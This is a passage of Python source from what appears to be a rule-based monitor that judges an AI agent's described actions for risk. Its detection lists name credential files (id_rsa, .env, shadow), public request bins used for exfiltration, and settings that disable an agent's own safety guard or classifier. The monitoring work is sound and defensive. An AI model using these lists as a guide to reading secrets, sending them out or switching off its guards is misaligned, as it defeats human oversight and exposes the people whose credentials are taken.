            and not frame.words & _OUTSIDE_AUDIENCE and bool(team_channels([ident_token(w) for w in order])))


def _to_self(frame: Frame) -> bool:
    order = frame.order
    pairs = set(itertools.pairwise(order))
    return "myself" in order or ("my", "own") in pairs or ("to", "me") in pairs


SECRET_FILES = words("kubeconfig .env id_rsa id_ed25519 id_ecdsa .netrc .pgpass shadow keychain keystore pem")
def _fragment_only(frame: Frame) -> bool:
    """"printing only the first 4 characters of the token", "its sha256 fingerprint", "the length of
    the key, not its value": a piece that identifies the secret and cannot stand in for it."""
    said = _affirmed(frame.order)
    return bool(said & SECRET_FRAGMENTS) and bool(said & FRAGMENT_BOUNDS) and not said & _WHOLE_VALUE


def _affirmed(order: Sequence[str]) -> set[str]:
    """The clause's words less those refused just before ("not its value", "never the length")."""
    return {w for j, w in enumerate(order)
            if not any(u in MARKERS.negation for u in order[max(0, j - 2) : j])}


_WHOLE_VALUE = words("value values full whole entire all")
# Said of a secret next to it ("tokens masked", "the redacted keys"): its value is not in what is sent
_WITHHELD = words("masked redacted stripped scrubbed obfuscated censored elided blanked omitted hashed")


def _withheld(frame: Frame, secrets: Sequence[str]) -> bool:
    """Every secret the clause names stands next to a word saying its value was taken out: "the stack
    trace (tokens masked)", "the log with the keys redacted". A secret named without one still counts."""
    order = frame.order
    if any(w in VALUE_WORDS and _withheld_after(order, j) for j, w in enumerate(order)):
        return bool(secrets)  # "the KV paths, values left out": whatever secret is named, its value stays
    for name in secrets:
        at = [j for j, w in enumerate(order) if w == name.lower()]
        if not at or not any({order[j - 1] if j else "", *order[j + 1 : j + 2]} & _WITHHELD for j in at):
            return False
    return bool(secrets)


_WITHHELD_AFTER = _WITHHELD | words("removed excluded")


def _withheld_after(order: Sequence[str], j: int) -> bool:
    """The word after position j says it was taken out: "values removed", "values left out"."""
    after = order[j + 1 : j + 3]
    return bool(after) and (after[0] in _WITHHELD_AFTER or list(after) == ["left", "out"])


NAME_WORDS = words("name names name-only names-only")
_REFERRING = words("reference cite mention")
_NAME_FIELD = re.compile(r"^-{1,2}field=[\w-]*(?:name|user|id)$")
VALUE_WORDS = words("value values content contents plaintext data")


def _names_only(frame: Frame) -> bool:
    """The clause asks for names (a secret's name, `-o name`), and values only to exclude them.
    A credentials file read for the names in it is still read whole: names only from a store."""
    if frame.verbs and all(v in _REFERRING for _, v in frame.verbs):
        return True  # "I'll reference the vault path secret/staging/db": a secret named, its value unread
    if any(_NAME_FIELD.match(w) for w in frame.order):
        return True  # `vault kv get -field=username secret/dev/db`: one field, a name, not the secret
    if any(t.obj is Obj.SECRET and t.path_class != "secret store" for t in frame.paths) \
            or set(frame.order) & SECRET_FILES:
        return False
    order = frame.order
    names = [j for j, w in enumerate(order) if w in NAME_WORDS and (j == 0 or order[j - 1] != "by")]
    values = [j for j, w in enumerate(order) if w in VALUE_WORDS
              and not any(u in MARKERS.negation for u in order[max(0, j - 2) : j])]
    return bool(names) and not values


_INTO = words("into onto to")


# Turning on a control that only records or verifies (audit logs, log validation, scanning) blocks no
# one; a blocking control (a firewall, a policy) switched on can lock people out, so it still pauses.
ENABLING = frozenset({"enable", "turn on", "switch on"})
RECORDING = words(
    "log logs logging audit auditing trail validation verification integrity monitoring scanning scan "
    "alert alerts alerting"
)


# Settings that keep earlier copies, so what is later overwritten or deleted can be brought back
# (an object lock is not one: in compliance mode nobody can remove it, or what it holds, until it lapses)
KEEPING = re.compile(r"\b(?:versioning|pitr|(?:deletion|termination)[- ]protection"
                     r"|soft[- ]deletes?)\b")


# Code checkers whose rules live in the project's own config: switching one off is an edit to code.
LINTERS = words(
    "eslint tslint stylelint ruff pylint flake8 rubocop mypy pyright clippy golangci-lint prettier "
    "shellcheck hadolint markdownlint lint linter linting"
)


# Verbs that rewrite history in place; deleting it is judged with what it deletes (.git stops).
_HISTORY_VERBS = words("rewrite rebase squash amend filter scrub alter edit modify change flatten")
_SWITCHING_OFF = frozenset({"disable", "turn off", "switch off", "silence", "suppress", "mute", "relax"})


# Values that switch a setting off: "SELINUX=disabled", "turning the firewall off", "set to permissive".
_OFF_VALUES = words("off disabled false 0 no none permissive")
_OFF_WORDS = words("off disabled permissive")


# Words that name an agent's own guard in a setting's name (GUARD_MODE, SAFETY_HOOK_ENABLED).
_GUARD_PARTS = words("guard safety hook hooks dongle sandbox permission permissions approval approvals")
_NEGATED_SWITCHES = words("disable disabled off skip bypass no")
_TRUE_VALUES = words("1 true yes on")


def _assigns_off(word: str) -> bool:
    """`SELINUX=disabled`, `audit_enabled=false`, `SAFETY_CLASSIFIER_DISABLED=1`: a security control's
    setting given an off value (or its off switch given an on one)."""
    name, eq, value = word.partition("=")
    parts = [p for p in re.split(r"[_.\-]+", name.lower()) if p]
    value = value.strip("'\"").lower()
    if not eq or not (value in _OFF_VALUES or (value in _TRUE_VALUES and _NEGATED_SWITCHES & set(parts))):
        return False
    return bool(_GUARD_PARTS & set(parts)) or any(
        OBJ_CLASS.get(lemma(p)) is Obj.SECURITY for p in parts) or any(
        COMPOUND_OBJECTS.get((lemma(a), lemma(b))) is Obj.SECURITY for a, b in itertools.pairwise(parts))


_SWITCH_NAMES = words("enabled enable active on state status mode enforce enforcing")


def _switch_assigned_off(word: str) -> bool:
    name, eq, value = word.partition("=")
    return bool(eq) and name.strip("-") in _SWITCH_NAMES and value.strip("'\"") in _OFF_VALUES


# Controls that ask more of a login, and the words that make a login everyone's
_LOGIN_FACTORS = words("mfa 2fa totp webauthn passkey passkeys two-factor multi-factor")
_EVERYONES = words("org organization organisation company everyone users members tenant domain workspace")


def _own_account(frame: Frame) -> bool:
    """ "my own admin account", "my account": the agent's (its user's) own login, nobody else's."""
    order = frame.order
    return any(w in ("my", "own") and "account" in order[i + 1:i + 4] for i, w in enumerate(order))


def _switched_off(frame: Frame) -> bool:
    """The clause sets its security control to an off value, not back on ("turning selinux off",
    "setting the firewall to disabled", `SELINUX=disabled`)."""
    if any(_assigns_off(w) or _switch_assigned_off(w) for w in frame.order):
        return True  # the control named in the clause, its switch set off: "auditd enabled=0"
    order = frame.order
    return any(
        w in _OFF_WORDS and not (j and order[j - 1] in ("the", "a", "re", "re-")) for j, w in enumerate(order)
    ) and not any(lemma(v) in ("enable", "restore", "reenable", "re-enable") for _, v in frame.verbs)


_AUTH_WORDS = words("auth authn authz")
_AFTER_A_HEAD = words("on for in at from of to so and or entirely completely altogether , ;")
def _opens_access(frame: Frame) -> list[str]:
    """ "PermitRootLogin yes": the login settings the clause sets to the value that lets more people in."""
    order = frame.order
    return [w for j, w in enumerate(order)
            if w in _OPENING_SETTINGS and _ON_VALUES & set(order[j + 1: j + 3])]


# Settings whose "yes" is the weaker one: root may log in, a password (or none) is enough
_OPENING_SETTINGS = words("permitrootlogin passwordauthentication permitemptypasswords "
                          "challengeresponseauthentication kbdinteractiveauthentication")
_ON_VALUES = words("yes on true 1")


BACKUP_NOUNS = words("backup pg_dump mysqldump mongodump dump snapshot")


# "tomorrow's resize", "last week's drop": a time's possessive names an event, not an act to do
_WHEN_POSSESSIVE = words("today tomorrow yesterday tonight night week month year weekend quarter morning")


def _event_of_a_time(tokens: list[Tok], i: int) -> bool:
    """The word is a noun after a time's possessive ("ahead of tomorrow's resize"); a backup keeps its
    reading ("restoring last night's backup" is about a backup)."""
    t, before = tokens[i], tokens[i - 1] if i else None
    return (before is not None and t.low == t.lem and t.low not in BACKUP_NOUNS
            and before.low.endswith(("'s", "’s")) and before.low[:-2] in _WHEN_POSSESSIVE)
def _held_nominal(tokens: list[Tok], i: int, verbs: Sequence[tuple[Act, str]]) -> bool:
    """A noun made from a verb, after a possessive, where only reads came before ("checking E-2043's
    termination checklist"): the holder's record is read. After any other verb ("processing E-2043's
    termination") or none, the noun still names the act that verb carries out."""
    t, before = tokens[i], tokens[i - 1] if i else None
    return (before is not None and bool(verbs) and all(a is Act.READ for a, _ in verbs)
            and t.low in ACT_NOUNS and t.low != t.lem
            and before.low.endswith(("'s", "’s")) and before.low[:-2] not in _CONTRACTED)


_CONTRACTED = words("it that what there here who he she let")  # "it's": "it is", no possessive
_SNAPSHOT_VERBS = words("snapshotting snapshotted")  # "snapshot" is a verb only where a verb goes
_BEFORE_VERB = words("then and to i'll will please first now")


def _takes_backup(verb: str, frame: Frame) -> bool:
    """A backup of something, kept where backups go: "backing up the db", "taking a pg_dump of it
    into backups/", "dumping it into ./backups/x.sql". A copy sent anywhere else is an export."""
    order = frame.order
    dest = [order[j + 1 : j + 4] for j, w in enumerate(order) if w in _INTO]
    kept = any(any(u.strip("./").startswith("backup") or _BACKUP_STORE.search(u) for u in d) for d in dest)
    if frame.words & SHARED_PLACES:
        return False
    # "backing up the table to our S3 bucket": the company's own object storage, named by no one else
    own_store = verb == "back up" and any(u in _OWN_STORES for d in dest for u in d)
    return kept or own_store or (verb == "back up" and not dest)


# a place named for backups (`s3://acme-db-backups/`, `backups/`): where the company keeps its copies
_BACKUP_STORE = re.compile(r"(?:^|[-_./])backups?(?:$|[-_./])")
_OWN_STORES = words("s3 gcs bucket blob glacier storage")


def _into_shared(frame: Frame, objs: dict[Obj, list[str]]) -> bool:
    """A shared place (an issue, a channel, a ticket) named after "into", "onto" or "to"."""
    secret_names = {n.lower() for n in objs.get(Obj.SECRET, ())}
    order = frame.order
    # a place called public ("into the public CI log") is shared whatever kind of place it is
    shared = SHARED_PLACES | PUBLIC_DESTINATIONS
    return any(
        w in _INTO and any(u in shared and u not in secret_names for u in order[j + 1 : j + 6])
        for j, w in enumerate(order)
    )


def _exposed_to(frame: Frame, ctx: Context) -> list[str]:
    """Where a clause puts something out of the company's control: anyone (public, a link anyone can
    open), a personal account (a personal address, a personal drive), or the press, whose work is to
    print what it is given ("to the journalist who asked for comment")."""
    return sorted(set(frame.public) | set(_outside_control(ctx)) | (frame.words & _PRESS))


_PRESS = words("journalist journalists reporter reporters newspaper newspaper's newsroom")


_OUTSIDERS = words("outside external third-party journalist journalists")
_COMPANY_CHANNELS = words("general all company everyone announcements announce all-hands allhands staff")
_WHOLE_COMPANY = words("company company-wide companywide all-hands everyone")


def _company_wide(frame: Frame) -> list[str]:
    """An audience of everyone in the company: a company-wide channel ("#general", "#all-staff") or
    "the whole company", "everyone"; a team's channel is not."""
    order = frame.order
    channels = [w for w in order if w.startswith("#") and set(re.split(r"[-_]", w[1:])) & _COMPANY_CHANNELS]
    whole = [f"{w} {nxt}" for w, nxt in itertools.pairwise(order)
             if w in ("whole", "entire", "all") and nxt in _WHOLE_COMPANY]
    return channels + whole + [w for w in order if w in ("company-wide", "companywide", "everyone")]


def _told_about(frame: Frame) -> bool:
    """What is sent is a statement about the sensitive thing ("posting in #general that the salary
    review is complete"), not the thing itself: "that" or "about" comes before its first sensitive word."""
    order = frame.order
    first = next((i for i, w in enumerate(order) if w in SENSITIVE_RECORDS), len(order))
    return bool({"that", "about"} & set(order[:first]))


def _public_endpoint(host: str) -> bool:
    """webhook.site, eo1x.pipedream.net: a request bin or paste site, or a name under one."""
    parts = host.lower().split(".")
    return any(".".join(parts[i:]) in PUBLIC_ENDPOINTS for i in range(len(parts) - 1))


def _to_public_endpoint(ctx: Context) -> bool:
    hosts = (re.sub(r"^[a-z][a-z0-9+.-]*://", "", d.lower()).split("/")[0] for d in ctx.external_dest)
    return any(_public_endpoint(h.split(":")[0]) for h in hosts if "." in h)


def _outside_control(ctx: Context) -> list[str]:
    """The hint's destinations that are public (a paste site, a request bin) or personal (gmail, a
    personal Dropbox), as opposed to a company's own or a named partner's."""
    return [d for d in ctx.external_dest if d in PUBLIC_DESTINATIONS | PERSONAL_DESTINATIONS
            or d.split("@")[-1].split(".")[0] in PERSONAL_DESTINATIONS]


_AMOUNT = re.compile(r"^[$€£](?:\d{1,3}(?:,\d{3})+|\d{4,}|\d+(?:\.\d+)?[km])(?:\.\d+)?$", re.I)
_COST_WORDS = words("paid billing budget cost costs spend spending pricey expensive")
_SPENDING = words("launch provision scale buy purchase rent reserve order spin start create upgrade add "
                  "subscribe increase raise bump")


def _spend(tokens: Sequence[Tok]) -> list[str]:
    """What says the hint commits money: an amount in the thousands ("about $9k", "$12,000"), or a cost
    word beside a fleet counted in tens ("the paid GPU pool to 64 A100s")."""
    amounts = [t.raw for t in tokens if _AMOUNT.match(t.raw)]
    costs = [t.low for t in tokens if t.low in _COST_WORDS]
    fleet = [t.raw for t in tokens if t.kind == "num" and t.low.replace(",", "").isdigit()
             and int(t.low.replace(",", "")) >= 10]
    return amounts or (costs + fleet if costs and fleet else [])


def _account_wide(frame: Frame, team_product: bool = False) -> str:
    """ "in the account", "for the entire organization", "org-wide": the clause reaches a whole provider
    account or organisation (a user's account, "accounts", is what is acted on, not the place). A
    workspace, instance or site is one when the hint names the team product it belongs to ("our Slack
    workspace", "the Jira cloud instance"); a bare "workspace" is as often the agent's own folder."""
    order = frame.order
    team_product = team_product or bool(frame.words & _TEAM_PRODUCTS)
    for i, w in enumerate(order):
        if w in _ACCOUNT_WIDE:
            return w
        if w not in _WHOLE_ACCOUNTS and not (w in _TEAM_SITES and team_product):
            continue
        j = i - 1
        while j >= 0 and (order[j] in _ACCOUNT_DETERMINERS or order[j] in _TEAM_PRODUCTS):
            j -= 1
        if j >= 0 and order[j] in _ACCOUNT_PLACE:
            return " ".join(order[j: i + 1])
    return ""


# Products whose workspace (instance, site) is the whole team's: every channel, page, project or file
# of everyone in it
_TEAM_SITES = words("workspace instance site")
_TEAM_PRODUCTS = words("slack notion confluence teams discord mattermost jira asana linear clickup airtable "
                       "figma miro monday basecamp")
_ACCOUNT_DETERMINERS = words("the entire whole our this aws gcp azure google workspace")


def _narrow(frame: Frame) -> bool:
    """Named items, or an age cut-off (retention), however widely it applies. A cut-off at the present
    ("older than today", "before now") picks out nothing: everything that exists is older."""
    if any(n.endswith(" than") for n in frame.narrowed) and not _cutoff_now(frame.order):
        return True
    return bool(frame.narrowed) and not set(frame.scope_all) & WIDE


_NOW = words("today now tomorrow present")


def _cutoff_now(order: Sequence[str]) -> bool:
    return any(w in ("than", "before") and nxt in _NOW for w, nxt in itertools.pairwise(order))


def _told_principal(frame: Frame) -> bool:
    """"telling the user ...", "asking me ...": the recipient is who the agent works for."""
    order = frame.order
    for j, w in enumerate(order):
        if lemma(w) in TELL_VERBS:
            after = [u for u in order[j + 1 : j + 3] if u not in DETERMINERS]
            return bool(after) and after[0] in PRINCIPAL
    return False


def _schema_only(frame: Frame, objs: dict[Obj, list[str]]) -> bool:
    """The copy holds structure, no rows: said with a flag that takes the rows out (`--schema-only`,
    `--no-data`), whatever table it names, or with schema words naming nothing but the schema."""
    if frame.words & SCHEMA_ONLY_FLAGS:
        return True
    named = {n.lower() for n in objs.get(Obj.DATA, ())}
    return bool(frame.words & SCHEMA_WORDS) and all(
        n in SCHEMA_WORDS | {"db", "database"} or _modifies_a_schema(frame.order, n, named) for n in named
    )


def _modifies_a_schema(order: Sequence[str], name: str, named: set[str]) -> bool:
    """ "the users collection schema", "the orders table DDL": the data words only say whose schema it is;
    the noun phrase ends in a schema word. "the users collection and its schema" names the records too."""
    if name not in order:
        return False
    for w in order[order.index(name) + 1:]:
        if w in SCHEMA_WORDS:
            return True
        if w not in named:
            return False
    return False


_SITES = words("site website sites preview")
# what a review site is not the place for, whoever reviews it: secrets, security settings, backups, and
# data other than a site's own pages (a table, an export, a dump)
_KEPT_FROM_REVIEWERS = frozenset({Obj.SECRET, Obj.SECURITY, Obj.BACKUP})
_SITE_CONTENT = words("page pages post posts article articles")
WIDE = words("every everyone everything entire whole * -r -rf -fr -R --recursive recursive recursively")
_POSSESSIVE = re.compile(r"['’]s?$")
SELF_HALT = words("stop pause halt wait")  # "I'll stop and ask the user first"
# What follows a halt verb when the agent itself halts ("stop here", "stop and ask", "pause until CI is
# green"); any other word after it is what is stopped ("stop falcon-sensor fleet-wide", "pause billing-sync").
_HALT_FOLLOWERS = words("here now and to for until till while so before after then first briefly for_now "
                        "my our working work i we it this that")


def _halted_named(frame: Frame, verb: str) -> str:
    """The word right after the halt verb when it names something that is stopped (a service, a sensor, a
    job the words do not class), or "": "stop falcon-sensor fleet-wide" stops a program, it is no halt of
    the agent's."""
    order = [w.lower().strip(".,;:") for w in frame.order]
    forms = {verb, f"{verb}s", f"{verb}ing", f"{verb}ped", f"{verb}ping", f"{verb}ed"}
    at = next((i for i, w in enumerate(order) if w in forms), None)
    if at is None or at + 1 >= len(order):
        return ""
    following = order[at + 1]
    return "" if not following or following in _HALT_FOLLOWERS else following
KEEPS_CONTENT = words("archive deactivate")  # archiving a repository keeps it, read-only
NEVER_CHEAP = frozenset(
    {Obj.SYSTEM, Obj.HOME, Obj.DEVICE, Obj.SECRET, Obj.SECURITY, Obj.BACKUP, Obj.CLOUD_ACCOUNT, Obj.PRIV_ESC,
     Obj.PAYMENT, Obj.PERSISTENCE}
)
_TEST_DATA = frozenset({Obj.DATA, Obj.INFRA, Obj.EPHEMERAL, Obj.PROCESS, Obj.CODE_PART})
_FILES = frozenset({Obj.CONTAINER, Obj.CODE, Obj.CODE_PART, Obj.EPHEMERAL, Obj.TEXT})


def objs_named(frame: Frame, obj: Obj) -> list[str]:
    return frame.objects.get(obj, [])


def _made_again(frame: Frame) -> set[str]:
    """The words saying what is destroyed is made again ("the generated stubs", "make proto regenerates
    them"). After "with" they say what replaces it ("overwriting reports/q3-final.xlsx with the version my
    script regenerates"): the new copy is generated, and the old one, overwritten, is lost."""
    if "with" not in frame.order:
        return set(frame.words & REGENERATED)
    before = frame.order[:frame.order.index("with")]
    return {w for w in before if w in REGENERATED or lemma(w) in REGENERATED}


def _cheap(frame: Frame, ctx: Context, kinds: set[Obj], scope: list[str]) -> str:
    """Why destroying these objects costs nothing ("" when it may): test data the suite reloads,
    generated files, or what the agent itself just created."""
    in_tests = {s for w in frame.paths for s in w.subs[:-1] if s in _TEST_DIRS}
    data_names = {n.lower() for n in objs_named(frame, Obj.DATA)}
    whole_db = data_names <= {"database", "db", "databases"} and bool(data_names)
    test_data = set() if ctx.customer or "real" in frame.words or whole_db else {
        f"{a} {b}" for before, a, b in zip(["", *frame.order], frame.order, frame.order[1:], strict=False)
        if a in _TEST_QUALIFIERS and OBJ_CLASS.get(lemma(b)) in (Obj.DATA, Obj.INFRA)
        and before not in PERSON_TEST_KINDS  # "the failed drug test record": a record about a person
    }  # "the test user", "the test database tables": made by the tests, recreated by them; a whole
    # development database dropped still pauses (rubric), and so does real customer data
    # a whole database is test data when it is called so ("the mock database"), not because fixtures
    # refill it ("recreates the staging database from fixtures"): what else it held is lost
    fixtures = sorted({a for a, b in itertools.pairwise(frame.order) if a in THROWAWAY
                       and OBJ_CLASS.get(lemma(b)) is Obj.DATA} if whole_db
                      else frame.words & THROWAWAY | in_tests | test_data)
    named_test_file = in_tests and kinds <= _TEST_DATA | {Obj.CONTAINER} and not scope
    if fixtures and not in_tests and not _every_part_qualified(frame.order):
        fixtures = []  # "the sample rows and all customer records": only the first part is test data
    if fixtures and (kinds <= _TEST_DATA or named_test_file):
        return f"test data, reloaded or recreated by the suite ({', '.join(fixtures)})"
    logs = data_names and data_names <= _LOG_NAMES and kinds <= {Obj.DATA, Obj.CONTAINER, Obj.EPHEMERAL}
    if logs and (ctx.nonprod or frame.words & _OWN_LOG) and not frame.words & _KEPT_LOGS and not scope:
        # "truncating the local debug log": the program writes it again; an audit trail is kept
        return f"a local or debug log, written again as the program runs ({', '.join(sorted(data_names))})"
    single = not {"and", ",", "or", "plus"} & set(frame.order)  # hint-wide facts fit one object only
    made = _made_again(frame) or (ctx.regenerated if single else [])
    if made and kinds <= _FILES:  # a reseeded database still loses what was in it
        return f"generated: regenerated on demand ({', '.join(sorted(made))})"
    if ctx.self_made and single and not scope and not ctx.customer:
        return f"the agent's own recent creation ({'; '.join(ctx.self_made)})"
    return ""


# Places people share that a word for cheap things may only name: "the build channel", "the
# build-status channel", "the cache pipeline" are a chat channel and a pipeline, not build output.
_SHARED_HEADS = words("channel channels pipeline pipelines workflow workflows room rooms bot bots "
                      "space spaces group groups team teams")


def _names_a_shared_place(order: list[str]) -> bool:
    """A word for cheap things (build, cache, tmp) up to two words before the head noun of a shared place
    ("the build-status channel", "the builds Slack channel")."""
    return any(OBJ_CLASS.get(lemma(w)) is Obj.EPHEMERAL and set(order[i + 1:i + 3]) & _SHARED_HEADS
               for i, w in enumerate(order))


def _every_part_qualified(order: list[str]) -> bool:
    """Each coordinated part ("X and Y", "X, Y") that names data says it is test data."""
    part: list[str] = []
    parts = [part]
    for w in order:
        if w in ("and", ",", "or", "plus"):
            part = []
            parts.append(part)
        else:
            part.append(w)
    for p in parts:
        names_data = any(OBJ_CLASS.get(lemma(w)) in (Obj.DATA, Obj.INFRA) for w in p)
        qualified = any(w in THROWAWAY or w in _TEST_QUALIFIERS for w in p)
        if names_data and not qualified:
            return False
    return True


_LOG_NAMES = words("log logs logfile logfiles")
_OWN_LOG = words("debug local my verbose trace")
_KEPT_LOGS = words("audit security access auth cloudtrail compliance")
_TEST_QUALIFIERS = words("test testing e2e integration")
_TEST_DIRS = words("tests test fixtures testdata __tests__ __fixtures__ __mocks__ mocks spec")


_SECRET_STORE_WORDS = words("secret secrets")
_SECRET_STORES = words("actions repo repository ci vault manager store keychain keyring environment")


_WITHDRAWING = words("revoke expire")
_KEEPING = words("store save add put keep")  # a new secret kept; replacing one changes what reads it
_INTO_HISTORY = words("commit push stage track repo repository git history upload")
_OWN_CREDENTIAL = words("my own accidentally accidental mistakenly mistake")  # a shared one others use


def _secret_cared_for(frame: Frame, act: Act, verb: str, ctx: Context) -> str:
    """How the clause keeps a secret safe ("" when it does not): stored in the secret store made for
    it, referenced through that store's expression (`${{ secrets.NPM_TOKEN }}`), or a credential of
    its own withdrawn or rotated, which narrows access (a shared one breaks whoever else uses it)."""
    if ctx.external_dest:
        return ""
    if act is Act.CHANGE and verb in _KEEPING and _into_secret_store(frame):
        return "stores a secret in the secret store made for it"
    if act in (Act.CHANGE, Act.READ) and any("secrets." in w for w in frame.order):
        return "refers to a secret through its store, not by value"
    secret_files = [t for t in frame.paths if t.obj is Obj.SECRET]
    if (act is Act.CHANGE and not ctx.shared_history and verb not in PLACING - {"add", "write"}
            and not frame.words & PARTITIVES
            and secret_files and all(t.path_class in ("project_secret", "project") for t in secret_files)
            and not frame.words & SHARED_PLACES):
        # "updating .env.local (gitignored)", "mounting the local .env into the dev container": the
        # secrets file is edited or used where it is; committing it is another matter
        return "edits or uses a local secrets file where it lies"
    if act is Act.PRIVILEGE and verb in _WITHDRAWING and (frame.words & _OWN_CREDENTIAL or ctx.self_made):
        return "withdraws a credential of its own: access narrows"
    if act is Act.PRIVILEGE and verb == "rotate" and frame.words & _OWN_CREDENTIAL:
        return "rotates a credential of its own"
    if act is Act.CHANGE and verb in _SUBSTITUTING and _with_placeholder(frame.order):
        # "replacing the real API key in the README examples with a placeholder": the value is taken out
        return "replaces a secret's value with a placeholder: the value is taken out"
    return ""


_SUBSTITUTING = words("replace swap substitute")
_PLACEHOLDERS = words("placeholder placeholders dummy fake example redacted <redacted> xxx xxxx ***")


def _with_placeholder(order: list[str]) -> bool:
    """What the clause puts in the secret's place is a placeholder ("with a placeholder like
    sk_test_XXXX", "with a dummy value"), not another value."""
    for i, w in enumerate(order):
        if w == "with":
            ahead = order[i + 1:i + 4]
            return any(u in _PLACEHOLDERS or re.search(r"x{4,}|\*{3,}", u) for u in ahead)
    return False


_SHAPES = words("template templates skeleton skeletons stub stubs")
_SECRET_VALUES = words("token tokens secret secrets credential credentials key keys password passwords "
                       "values")


def _secret_shape_only(frame: Frame) -> bool:
    """ "the kubeconfig template (cluster names, no tokens)": a secret file's shape, with the hint saying
    its secret values are left out; a template alone may still hold them, and "public" keeps it judged."""
    order = frame.order
    shaped = left_out = False
    for i, w in enumerate(order):
        if not (w in _SECRET_VALUES or OBJ_CLASS.get(lemma(w)) is Obj.SECRET):
            continue
        if i + 1 < len(order) and order[i + 1] in _SHAPES:
            shaped = True
        elif i and order[i - 1] in ("no", "without"):
            left_out = True
        else:
            return False  # a secret named with its value: "and the prod token"
    return shaped and left_out


def _into_secret_store(frame: Frame) -> bool:
    """"storing the key as a repo secret", "in the repository's Actions secrets": the place is the
    secret store of that repository or CI, made to hold it, not a place others read it."""
    order = frame.order
    return any(
        w in _SECRET_STORE_WORDS and (
            (i and order[i - 1].split("'")[0] in _SECRET_STORES)
            or (i + 1 < len(order) and order[i + 1] in _SECRET_STORES)
        )
        for i, w in enumerate(order)
    )


def _role_parts(frame: Frame) -> set[str]:
    """Role words, also inside identifiers: `roles/owner`, `roles/storage.admin`. A word after a possessive
    ("with its owner", "their admin") names who holds a thing, a field read, not a role given."""
    return {p for w in frame.words - _held_roles(frame) for p in re.split(r"[/._:-]", w) if p}


_HOLDERS_OF = words("its their whose each")
# What something logs in or acts as: a role by any product's name (`AppRole`, `ClusterRole`, a RoleBinding),
# an account or principal for a service, a key or token it authenticates with, a binding of a policy
_IDENTITY_HEAD = re.compile(r"^(?:[a-z]*role|[a-z]*rolebinding|serviceaccount|binding)s?$")
_IDENTITY_PAIRS = frozenset({("service", "account"), ("service", "principal"), ("managed", "identity"),
                             ("api", "key"), ("access", "token"), ("policy", "binding"), ("iam", "binding"),
                             ("machine", "user"), ("bot", "account")})
# Words that say what the identity may do with what follows: it is given reach, not named beside it
_REACH = words("access read write permission permissions scope scopes allow allows allowing can")


def _identity_given_secrets(frame: Frame) -> str:
    """The identity a clause makes or widens with reach over the secrets it names ("an AppRole with read
    access to the secrets path", "a service account that can read the credentials"), or "". A secret
    made on its own ("generating a new API key") names no reach, and stays the new secret it is."""
    order = frame.order
    if not set(order) & _REACH:
        return ""
    named_ = [w for w in order if _IDENTITY_HEAD.match(w)]
    named_ += [f"{a} {b}" for a, b in itertools.pairwise(order) if (a, lemma(b)) in _IDENTITY_PAIRS]
    return ", ".join(dict.fromkeys(named_))
# Words that make a role one of access, whoever it is for ("access for the deploy role", "the IAM role")
_ACCESS_ROLE_WORDS = words("access permission permissions iam rbac policy policies privilege privileges "
                           "scope scopes grant grants sudo login")


def _job_served(frame: Frame, names: list[str]) -> bool:
    """Every role the clause names is the job something else is made for ("an interview plan for the staff
    engineer role", "a job post for the designer role"): a position people are hired into. A role named
    for access (admin, owner, IAM, permissions) or given to someone ("adding bob to the role") is not."""
    if any(n.lower() not in ("role", "roles") for n in names) or frame.permission:
        return False
    order = frame.order
    if set(order) & (PRIVILEGED_ROLES | _ACCESS_ROLE_WORDS):
        return False
    at = [j for j, w in enumerate(order) if w in ("role", "roles")]
    for j in at:
        lead = order[max(0, j - 6):j]
        if "for" not in lead:
            return False
        k = j - len(lead) + len(lead) - 1 - lead[::-1].index("for")
        if k < 2:  # "for" right after the verb: the role is what the act is about
            return False
    return bool(at)


def _held_roles(frame: Frame) -> set[str]:
    """The words right after a possessive ("its owner", "their admins"): who holds a thing."""
    return {w for prev, w in itertools.pairwise(frame.order) if prev in _HOLDERS_OF}


_WORLD_WRITABLE = words("777 0777 666 0666 a+rwx a+w o+w o+rwx ugo+rwx world-writable")


def _world_writable(frame: Frame) -> bool:
    return bool(set(frame.permission) & _WORLD_WRITABLE)


def _wide_permissions(frame: Frame) -> list[str]:
    """Permission words that open access (777, a+w), not the bare mention of chmod or permissions."""
    return [p for p in frame.permission if p not in ("permission", "permissions", "chmod")]


_CLAUSE_END = Tok(";", ";", "punct")
# A repository everyone can read, and the CI whose logs it shows (the hint's words joined by spaces)
_PUBLIC_REPO_CI = re.compile(r"\b(?:public|open-source|open source)\s+(?:github\s+|gitlab\s+)?"
                             r"(?:repo|repo's|repos|repository|repository's|project|project's|ci|logs?|workflow)\b")
_CI_WORDS = re.compile(r"\b(?:ci|workflow|workflows|pipeline|actions|step|job|logs?|build)\b")


def analyse(tokens: list[Tok], *, segment_clauses: bool = True, after_command: bool = False) -> ProseResult:
    """Judge a token stream: every clause as a frame, plus hint-wide patterns (remote code, shells).
    `after_command`: the words are what is left around a quoted command the hint runs."""
    tokens = _code_branches(_named_endpoints(_unreferenced_copies(_tool_acts(
        _named_tool_calls(separated_particles(split_hyphenated(tokens)))))))
    clauses = (_merge_verbless(segment(tokens, after_command)) if segment_clauses
               else [Clause(tokens, "main")])
    clauses = _outcomes_after_acts(clauses)
    # "opening a PR that drops the prod table, then merging it myself": a proposal the agent merges is done
    # (the agent's own form: "merging it", "I'll merge it"; "Priya merges it" is hers)
    merged_here = any(
        c.role not in ("theirs", "question", "answered", "content")
        and any(t.low == "merging" or (t.low == "merge" and c_first) for t in c.tokens)
        for c in clauses for c_first in [any(u.low in _FIRST_PERSON for u in c.tokens)])
    # clauses stay apart: "recreating from scratch, prod included" names prod, not a source of data
    live = [t for c in clauses if c.role not in ("content", "question", "answered", "theirs", "outcome")
            for t in (*c.tokens, _CLAUSE_END)]
    ctx = _context(live)
    # "… before the prod rollout tomorrow", "a PR that bumps the prod replica count": places of a later
    # step or of a proposed change, not of this act (a later clause's own acts keep its places)
    reviewed = not merged_here and bool({t.low for t in tokens} & _FOR_REVIEW)
    elsewhere = [c for c in clauses if c.opener in LATER_OPENERS or (c.role == "proposed" and reviewed)]
    for prod, nonprod in (environment(c.tokens) for c in elsewhere):
        ctx.prod = _without(ctx.prod, prod)
        ctx.nonprod = _without(ctx.nonprod, nonprod)
    # Hint-wide facts read from every word: "until", "while", "for 2h" are clause boundaries, gone
    # from the live clauses, and "it's tracked in git" may stand in a clause of its own
    joined = " ".join(t.low for t in tokens)
    ctx.tracked = bool(_TRACKED.search(joined))
    ctx.merged = (bool(_MERGED.search(joined)) and not _NOT_MERGED.search(joined)
                  and not {t.low for t in tokens} & _REMOTE_PLACES)  # "… branches on origin": shared
    ctx.bounded = bool(_BOUND.search(joined))
